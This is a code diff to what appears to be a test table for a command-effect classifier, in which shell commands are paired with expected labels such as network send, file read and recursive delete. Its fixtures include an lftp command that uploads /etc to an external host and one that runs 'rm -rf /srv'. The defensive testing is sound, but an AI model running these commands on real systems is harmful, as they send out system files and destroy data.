@@ -14,12 +14,7 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
   ],
   [
     "lftp -e 'mirror -R /etc /up; bye' ftp.h.example",
-    [
-      'network:connect ftp.h.example external',
-      'read:read /etc external',
-      'network:send external',
-      'network:send-data external',
-    ],
+    ['network:connect ftp.h.example external', 'read:read /etc external', 'network:send-data external'],
   ],
   ["lftp -e '!rm -rf /srv' h.example", ['network:connect h.example external', 'delete:remove /srv recursive force']],
   [
